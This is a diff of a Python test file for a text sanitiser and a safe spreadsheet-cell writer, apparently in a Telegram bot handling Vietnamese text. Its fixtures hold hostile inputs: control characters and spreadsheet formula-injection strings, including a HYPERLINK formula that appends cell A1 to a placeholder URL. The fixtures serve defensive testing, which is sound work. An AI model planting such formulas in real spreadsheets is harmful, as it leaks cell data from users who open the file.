@@ -34,7 +34,7 @@ from texts.clean import sanitise, utf16_length
 from timelang.clock import FakeClock
 
 ADMIN, MEMBER = "1", "901"  # telegram:1 is an admin; 901 is a member of PNV
-HOSTILE_TITLE = '=HYPERLINK("http://x.invalid/?"&A1;"bấm")\x00\x07 Rà soát\x0b thủ tục\x1b'
+HOSTILE_TITLE = '=HYPERLINK("http://x.invalid/?"&A1;"bấm")\x00\x07 Rà soát\x1f thủ tục\x1b'
 CLEAN_TITLE = '=HYPERLINK("http://x.invalid/?"&A1;"bấm") Rà soát thủ tục'
 HOSTILE_CAPTION = "+SUM(1;2)\x00\x08biên\x7fbản"
 CLEAN_CAPTION = "+SUM(1;2)biênbản"
@@ -158,6 +158,7 @@ def test_safe_cell_writer() -> None:
 
 def test_sanitise() -> None:
     assert sanitise("a\x00b\x07c\r\nd\re\tf\x85g\ud83d") == "abc\nd\ne\tf\ng"
+    assert sanitise("dòng một\x0bdòng hai\x0ctrang sau") == "dòng một\ndòng hai\ntrang sau"
     decomposed = "Nghi\u0323 quyê\u0301t"
     assert sanitise(decomposed) == "Nghị quyết"
     assert sanitise("x" * 5000) == "x" * 4096
